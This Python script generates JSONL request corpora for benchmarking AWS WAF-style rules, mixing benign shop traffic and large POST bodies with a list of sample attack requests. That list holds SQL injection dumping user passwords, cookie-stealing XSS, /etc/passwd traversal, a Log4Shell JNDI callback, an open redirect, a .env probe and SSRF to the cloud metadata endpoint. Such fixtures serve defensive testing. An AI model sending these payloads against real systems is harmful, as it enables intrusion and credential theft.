#!/usr/bin/env python3
"""Writes the request corpora in requests/: one JSON request per line, in the format
`webacl check --requests` reads (the httpRequest object of an AWS WAF log, plus `body`).

    python3 rulesets/bench/gen-requests.py

Deterministic: the bodies are built from fixed word lists, so a rerun writes the same bytes.
Clients come from documentation ranges (never in the reputation set, never in the office set).
"""
import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"
SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1")
COOKIE = ("session=eyJ1aWQiOjQ4MjE3LCJleHAiOjE3MTcyMzQwMDB9.c2lnbmF0dXJlLWJ5dGVz; cart=3; "
          "_ga=GA1.2.1843920517.1716000000; _gid=GA1.2.998877665.1717000000; theme=dark; "
          "consent=analytics%3Dfalse%26ads%3Dfalse; locale=en-US")
# Just under 8 KB: CommonRuleSet's SizeRestrictions_BODY fires above 8,192 bytes.
JSON_BODY_BYTES = 8 * 1024 - 64
WORDS = ("alpine trail running shoe lightweight breathable mesh upper cushioned midsole "
         "grippy outsole reflective heel tab size wide fit colour ocean blue delivered "
         "tuesday morning thanks again great service would recommend to friends").split()


def browser(ua, host="shop.example.com", referer=None, cookie=COOKIE, extra=()):
    h = [("Host", host), ("User-Agent", ua),
         ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
         ("Accept-Language", "en-US,en;q=0.9,de;q=0.7"), ("Accept-Encoding", "gzip, deflate, br, zstd"),
         ("Sec-Ch-Ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
         ("Sec-Ch-Ua-Mobile", "?0"), ("Sec-Ch-Ua-Platform", '"Windows"'),
         ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", "same-origin"),
         ("Upgrade-Insecure-Requests", "1")]
    if referer:
        h.append(("Referer", referer))
    h.extend(extra)
    if cookie:
        h.append(("Cookie", cookie))
    return h


def req(ip, country, method, uri, args, headers, body=None):
    r = {"clientIp": ip, "country": country, "headers": [{"name": n, "value": v} for n, v in headers],
         "uri": uri, "args": args, "httpVersion": "HTTP/1.1", "httpMethod": method}
    if body is not None:
        r["body"] = body
    return r


def benign():
    ref = "https://shop.example.com/"
    return [
        req("198.51.100.23", "US", "GET", "/", "", browser(CHROME, cookie=None)),
        req("198.51.100.23", "US", "GET", "/catalog/shoes/running", "color=blue&size=42&sort=price_asc&page=2",
            browser(CHROME, referer=ref)),
        req("203.0.113.77", "DE", "GET", "/product/alpine-trail-runner-2", "variant=ocean-blue&utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
            browser(FIREFOX, referer="https://mail.example.net/")),
        req("203.0.113.77", "DE", "GET", "/search", "q=trail+running+shoes+waterproof&lang=en",
            browser(FIREFOX, referer=ref)),
        req("192.0.2.201", "GB", "GET", "/account/orders", "",
            browser(SAFARI, referer="https://shop.example.com/account")),
        req("192.0.2.201", "GB", "GET", "/static/css/app.3f9a1c.css", "",
            browser(SAFARI, referer=ref)[:3] + [("Accept", "text/css,*/*;q=0.1")] + browser(SAFARI)[4:]),
    ]


def attacks():
    h = browser(CHROME, referer="https://shop.example.com/")
    q = urllib.parse.quote
    return [
        req("198.51.100.66", "US", "GET", "/product", "id=" + q("1' UNION SELECT username,password FROM users--"), h),
        req("198.51.100.66", "US", "GET", "/search", "q=" + q("<script>alert(document.cookie)</script>"), h),
        req("198.51.100.66", "US", "GET", "/download", "file=" + q("../../../../etc/passwd"), h),
        req("198.51.100.66", "US", "GET", "/", "", browser("${jndi:ldap://198.51.100.66:1389/a}")),
        req("198.51.100.66", "US", "GET", "/login", "next=" + q("//evil.example.net/phish"), h),
        req("198.51.100.66", "US", "GET", "/.env", "", browser("sqlmap/1.8#stable (https://sqlmap.org)", cookie=None)),
        req("198.51.100.66", "US", "GET", "/proxy", "url=" + q("http://169.254.169.254/latest/meta-data/"), h),
    ]


def json_post(target, seed):
    items, i = [], 0
    doc = {"orderId": f"ord-{seed:06d}", "customer": {"id": 48217, "email": "dana.miller@example.com",
           "name": "Dana Miller", "phone": "+1-202-555-0147"},
           "shipping": {"line1": "1200 Harbor Blvd", "line2": "Apt 4B", "city": "Portland", "region": "OR",
                        "postalCode": "97201", "country": "US"},
           "items": items, "coupon": "SPRING24", "note": ""}
    while len(json.dumps(doc, separators=(",", ":"))) < target - 200:
        items.append({"sku": f"SKU-{seed * 1000 + i:08d}", "name": " ".join(WORDS[(i + k) % len(WORDS)] for k in range(4)),
                      "qty": 1 + i % 3, "unitPrice": round(19.99 + i * 1.25, 2), "giftWrap": i % 5 == 0})
        i += 1
    filler = " ".join(WORDS * (target // len(WORDS) + 1))
    doc["note"] = filler[: max(0, target - len(json.dumps(doc, separators=(",", ":"))))]
    return json.dumps(doc, separators=(",", ":"))


def json_posts():
    h = [("Host", "api.example.com"), ("User-Agent", "ShopApp/5.2.1 (iOS 17.4; iPhone15,2) okhttp/4.12.0"),
         ("Accept", "application/json"), ("Accept-Encoding", "gzip"), ("Content-Type", "application/json"),
         ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0ODIxNyIsInNjb3BlIjoib3JkZXJzIn0.c2lnbmF0dXJl"),
         ("X-Request-Id", "7f3c2a10-5b8e-4d6f-9a1b-2c3d4e5f6a7b")]
    return [req("203.0.113.45", "US", "POST", "/api/orders", "", h, json_post(JSON_BODY_BYTES, s)) for s in (1, 2)]


def form_post():
    para = " ".join(WORDS) + ". "
    text = (para * (64 * 1024 // len(para) + 1))
    fields = [("csrf_token", "b1946ac92492d2347c6235b4d2611184"), ("thread", "98231"), ("title", "Review: trail runner after 500 km"),
              ("tags", "running,review,shoes"), ("body", text)]
    body = urllib.parse.urlencode(fields)
    body = body[: 64 * 1024]
    h = browser(FIREFOX, host="community.example.com", referer="https://community.example.com/forum/thread/98231",
                extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://community.example.com")])
    return [req("192.0.2.150", "CA", "POST", "/forum/posts", "", h, body)]


def write(name, reqs):
    with open(os.path.join(HERE, "requests", name), "w") as f:
        for r in reqs:
            f.write(json.dumps(r, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    write("benign-get.jsonl", benign())
    write("attack-get.jsonl", attacks())
    write("json-post-8k.jsonl", json_posts())
    write("form-post-64k.jsonl", [form_post()[0]])
